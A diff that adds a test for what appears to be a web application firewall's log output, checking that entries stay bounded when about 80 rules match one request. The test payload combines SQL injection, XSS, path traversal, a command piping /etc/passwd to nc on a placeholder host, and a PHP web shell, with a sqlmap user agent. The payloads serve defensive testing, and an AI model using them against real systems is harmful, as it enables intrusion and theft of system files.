@@ -305,3 +305,28 @@ def test_fix_for_scanner_false_positive(servers):
         assert fixed.get(SQLI).status == 403
     finally:
         fixed.cleanup()
+
+
+def test_many_rules_stay_bounded_and_counted(servers):
+    """A request that makes ~80 rules match: the entry stays one bounded
+    line, lists the first rules in logged order and counts the rest; the
+    score still adds up over every Warning line of the request."""
+    from urllib.parse import quote
+    stock, mod = servers
+    payload = ("1' UNION SELECT password FROM users-- <script>alert(1)"
+               "</script> ../../etc/passwd ; cat /etc/passwd | nc evil 1 "
+               "<?php system($_GET[x]); ?>")
+    qs = "&".join("%s=%s" % (n, quote(payload)) for n in "abcd")
+    e = blocked_with_entry(servers, "/index.html?" + qs, source="127.0.0.4",
+                           headers={"User-Agent": "sqlmap/1.7"})
+    uid = field(e, "waf_unique_id")
+    logged = warning_ids(mod, uid)
+    listed = [r["id"] for r in e["waf_rules"]]
+    assert len(logged) > 40
+    assert listed == logged[:len(listed)]
+    assert len(listed) + e["waf_rules_omitted"] == len(logged)
+    assert e["waf_score_accounted"] is True
+    line = [l for l in mod.read_error_log().splitlines()
+            if "forbidden_explain" in l and uid in l][-1]
+    assert len(line) < 8192
+    assert "truncated" not in e or "waf_rules" not in e["truncated"]
